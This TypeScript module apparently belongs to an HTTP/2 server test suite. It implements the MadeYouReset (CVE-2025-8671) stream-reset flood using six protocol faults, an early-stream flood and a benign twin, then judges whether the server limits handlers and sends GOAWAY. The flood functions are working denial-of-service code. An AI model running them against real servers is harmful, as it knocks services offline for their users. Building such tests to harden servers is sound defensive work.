// Row 2, MadeYouReset (CVE-2025-8671): faults on a stream, each of which makes the server reset it, so
// that no RST_STREAM of the client's is ever seen. Six faults, each on a connection of its own.
// Refusals above a limit of streams that the client could not know yet are exempt: a seventh
// connection has 1,500 of those. The twin's frames are late, not faulty.

import { setTimeout as pause } from 'node:timers/promises';
import type { Attack, AttackModule } from '../attack.ts';
import { type ConnectionEnd, calmFaults, endOf, streamsTaken } from '../measure/connection-end.ts';
import { floodRow } from '../measure/flood-row.ts';
import type { Figures, RuntimeName } from '../report.ts';
import type { Row } from '../row.ts';
import { ECHO, STALL } from '../runtimes/runtime.ts';
import { type Answers, answersOf } from '../wire/answers.ts';
import {
  data,
  FrameType,
  frame,
  headers,
  message,
  priority,
  requestBlock,
  trailersBlock,
  windowUpdate,
} from '../wire/frames.ts';
import { type Address, RawPeer } from '../wire/raw-peer.ts';

const STREAMS = 20_000;
const MOST_RESETS = 1_100;
const HANDLERS = 100;
const NO_ERROR = 0;
const REFUSED_STREAM = 7;
const LARGEST = 0x7fff_ffff;

const TRAILERS = trailersBlock();

/** What makes a server reset a stream whose request has ended. */
const FAULTS: Readonly<Record<string, (id: number) => Buffer>> = {
  windowUpdateZero: (id) => windowUpdate(id, 0),
  windowOverflow: (id) => windowUpdate(id, LARGEST),
  priorityLength: (id) => frame(FrameType.PRIORITY, 0, id, Buffer.alloc(4)),
  selfDependency: (id) => priority(id, id),
  headersAfterEnd: (id) => headers(id, TRAILERS, true),
  dataAfterEnd: (id) => data(id, Buffer.of(0), true),
};
const VARIANTS: readonly string[] = Object.keys(FAULTS);

/** Resets that faults caused: neither refusals, nor what follows an early answer. */
function causedOf({ resets }: Answers): number {
  let caused = 0;
  for (const [code, times] of resets) {
    if (code !== NO_ERROR && code !== REFUSED_STREAM) caused += times;
  }
  return caused;
}

async function causeResets(
  address: Address,
  fault: (id: number) => Buffer,
  count: number,
): Promise<{ resets: number; streams: number; goAwayCode: ConnectionEnd }> {
  const peer = await RawPeer.connect(address);
  const answers = answersOf(peer);
  // What the server's SETTINGS say is known and acknowledged: nothing here is exempt.
  await peer.fence();
  const block = requestBlock(STALL);
  await peer.flood(count, (i) =>
    Buffer.concat([headers(2 * i + 1, block, true), fault(2 * i + 1)]),
  );
  await peer.until(() => peer.isOver, 2_000);
  const { goAway } = peer;
  await peer.untilClosed(goAway === undefined ? 0 : 3_000);
  const caused = {
    resets: causedOf(answers),
    streams: streamsTaken(peer),
    goAwayCode: endOf(peer),
  };
  peer.end();
  return caused;
}

const EARLY = 1_500;

/** More requests than any server allows at once, before its SETTINGS were acknowledged. */
async function openTooEarly(address: Address): Promise<Figures> {
  const peer = await RawPeer.connect(address, { answers: false });
  const answers = answersOf(peer);
  const block = requestBlock(STALL);
  await peer.flood(EARLY, (i) => headers(2 * i + 1, block, true), { batch: 100 });
  await peer.fence();
  const refused = answers.resets.get(REFUSED_STREAM) ?? 0;
  const goAwayCode = endOf(peer);
  peer.end();
  return { earlyRefused: refused, earlyGoAwayCode: goAwayCode };
}

const flood: Attack = async (address) => {
  const seen: Figures = {};
  for (const variant of VARIANTS) {
    const fault = FAULTS[variant];
    if (fault === undefined) continue;
    const { streams, goAwayCode } = await causeResets(address, fault, STREAMS);
    seen[variant] = streams;
    seen[`${variant}Code`] = goAwayCode;
    // Handlers of this connection are gone before the next one counts its own.
    await pause(100);
  }
  return { ...seen, ...(await openTooEarly(address)) };
};

/** For row 38: one connection of it, with the fault that costs the most work. */
const oneOfMany: Attack = async (address) => {
  const { resets } = await causeResets(address, (id) => headers(id, TRAILERS, true), 2_000);
  return { resets };
};

const LATE_CALLS = 3_000;
const UNKNOWN = '/attack.Target/Unknown';
/** Calls whose end is awaited, before more are begun. */
const AT_A_TIME = 50;

/**
 * Frames that cross the end of their stream: credit for a response that has ended, and messages to a
 * method that was answered before they came.
 */
const crossing: Attack = async (address) => {
  const peer = await RawPeer.connect(address);
  peer.write(windowUpdate(0, 0x3fff_ffff));
  const answers = answersOf(peer);
  const echo = requestBlock(ECHO);
  const unknown = requestBlock(UNKNOWN);
  const request = message(Buffer.alloc(64));
  let id = 1;
  for (let calls = 0; calls < LATE_CALLS && !peer.isOver; calls += AT_A_TIME) {
    const first = id;
    for (; id < first + 4 * AT_A_TIME; id += 4) {
      answers.open.add(id).add(id + 2);
      peer.write(
        Buffer.concat([headers(id, echo), data(id, request, true), headers(id + 2, unknown)]),
      );
    }
    await peer.until(() => answers.open.size === 0 || peer.isOver, 5_000);
    for (let late = first; late < id; late += 4) {
      peer.write(windowUpdate(late, 64));
      peer.write(Buffer.concat([data(late + 2, request), data(late + 2, request, true)]));
    }
  }
  const heard = await peer.fence();
  const seen = {
    answered: answers.ended,
    heard: heard ? 'yes' : 'no',
    goAwayCode: endOf(peer),
  };
  peer.end();
  return seen;
};

export const attacks: AttackModule['attacks'] = { flood, oneOfMany, crossing };

function judgeVariant(seen: Figures, variant: string, runtime: RuntimeName): string[] {
  const faults = calmFaults(seen[`${variant}Code`], runtime);
  const streams = Number(seen[variant]);
  if (streams > MOST_RESETS) faults.push(`${streams} streams, ${MOST_RESETS} are too many`);
  return faults.map((text) => `${variant}: ${text}`);
}

function madeYouReset(tls: boolean): Row {
  return floodRow({
    row: 2,
    name: 'MadeYouReset, six faults',
    direction: 'server',
    tls,
    expected:
      'handlers never above the limit of 100; GOAWAY(ENHANCE_YOUR_CALM) within 1,100 streams for each fault, counted apart from resets by the peer; 1,500 refusals before SETTINGS were acknowledged are exempt; frames that cross the end of their stream are no attack',
    module: import.meta.url,
    attack: 'flood',
    seconds: 8,
    counters: ['caused-resets'],
    mayAct: ['streams', 'handlers', 'response-gate'],
    judge: ({ seen, handlersMost }, runtime) => [
      ...(handlersMost > HANDLERS
        ? [`${handlersMost} handlers ran, the limit is ${HANDLERS}`]
        : []),
      ...VARIANTS.flatMap((variant) => judgeVariant(seen, variant, runtime)),
      ...(seen.earlyGoAwayCode === 'none'
        ? []
        : [`GOAWAY code ${seen.earlyGoAwayCode} for refusals that are exempt`]),
      ...(seen.earlyRefused === EARLY - HANDLERS
        ? []
        : [`${seen.earlyRefused} of ${EARLY - HANDLERS} streams were refused`]),
    ],
    twin: {
      attack: 'crossing',
      seconds: 5,
      judge: ({ answered, heard, goAwayCode }) =>
        answered === 2 * LATE_CALLS && heard === 'yes' && goAwayCode === 'none'
          ? []
          : [`${answered} of ${2 * LATE_CALLS} calls were answered, GOAWAY code ${goAwayCode}`],
    },
  });
}

export const rows: readonly Row[] = [madeYouReset(false), madeYouReset(true)];
